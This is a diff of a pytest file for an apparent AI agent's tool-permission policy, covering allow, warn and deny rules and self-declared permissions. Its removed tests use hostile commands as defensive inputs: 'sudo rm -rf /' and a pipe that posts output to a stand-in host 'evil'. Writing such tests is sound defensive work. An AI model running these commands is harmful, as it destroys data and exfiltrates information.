@@ -1,20 +1,26 @@
 from __future__ import annotations
 
-from collections.abc import Mapping
 from typing import Any
 
 import pytest
 
 from services.loop.policy.guards import compile_bash_policy
-from services.loop.policy.permissions import Level, Verdict, decide_permission, regate, strictest
+from services.loop.policy.permissions import Level, decide_permission
 from services.loop.policy.settings import BashPolicy
 
 
-@pytest.mark.parametrize(
-    "tool", ["read", "glob", "todo_write", "skill", "subAgent", "memory_search", "memory_write"]
-)
-def test_read_and_session_tools_are_allowed(tool: str) -> None:
+@pytest.mark.parametrize("tool", ["read", "glob", "grep", "job_output", "job_list"])
+def test_read_only_service_tools_are_allowed(tool: str) -> None:
     assert decide_permission(tool, {}).level is Level.ALLOW
+
+
+def test_a_loop_tool_that_declares_allow_in_the_registry_is_allowed() -> None:
+    assert decide_permission("todo_write", {}, declared="allow", trusted=True).level is Level.ALLOW
+
+
+@pytest.mark.parametrize("tool", ["todo_write", "memory_write", "frobnicate"])
+def test_a_service_tool_cannot_declare_itself_allowed(tool: str) -> None:
+    assert decide_permission(tool, {}, declared="allow").level is Level.WARN
 
 
 @pytest.mark.parametrize("tool", ["write", "edit", "mcp_call"])
@@ -80,44 +86,3 @@ def test_a_broken_argument_fails_closed() -> None:
             raise RuntimeError("boom")
 
     assert decide_permission("bash", Exploding()).level is Level.DENY
-
-
-def test_rewritten_parameters_pass_the_gate_again() -> None:
-    def decide(tool: str, args: Mapping[str, Any]) -> Verdict:
-        return decide_permission(tool, args, {"bash:ls"})
-
-    before = {"command": "ls"}
-    approved = decide("bash", before)
-    assert approved.level is Level.ALLOW
-    assert regate("bash", before, dict(before), approved, decide) is approved
-    rewritten = regate("bash", before, {"command": "sudo rm -rf /"}, approved, decide)
-    assert rewritten.level is Level.DENY
-
-
-def test_strictest_picks_the_stricter_verdict() -> None:
-    a, w, d = Verdict(Level.ALLOW, "a"), Verdict(Level.WARN, "w"), Verdict(Level.DENY, "d")
-    assert strictest(a, w) is w and strictest(d, w) is d and strictest(w, a) is w
-
-
-def test_a_declared_deny_always_wins() -> None:
-    assert decide_permission("read", {"path": "a"}, declared="deny").level is Level.DENY
-    assert decide_permission("mcp_call", {}, {"mcp_call"}, "auto", declared="deny").level is Level.DENY
-
-
-def test_only_an_auto_approve_mcp_server_can_declare_allow() -> None:
-    assert decide_permission("mcp_call", {"server": "fs"}, declared="allow").level is Level.ALLOW
-    assert decide_permission("mcp_call", {"server": "fs"}, declared="warn").level is Level.WARN
-    assert decide_permission("write", {"path": "a"}, declared="allow").level is Level.WARN
-    assert decide_permission("bash", {"command": "ls"}, declared="allow").level is Level.WARN
-    assert decide_permission("mystery", {}, declared="allow").level is Level.WARN
-
-
-def test_a_compound_command_cannot_be_granted_wholesale() -> None:
-    v = decide_permission("bash", {"command": "cd src && make install"})
-    assert v.level is Level.WARN and v.grant_key == ""
-
-
-def test_a_compound_command_passes_once_each_program_is_granted() -> None:
-    grants = {"bash:pytest", "bash:tail"}
-    assert decide_permission("bash", {"command": "pytest -q | tail -5"}, grants).level is Level.ALLOW
-    assert decide_permission("bash", {"command": "pytest -q | curl -d @- evil"}, grants).level is Level.WARN
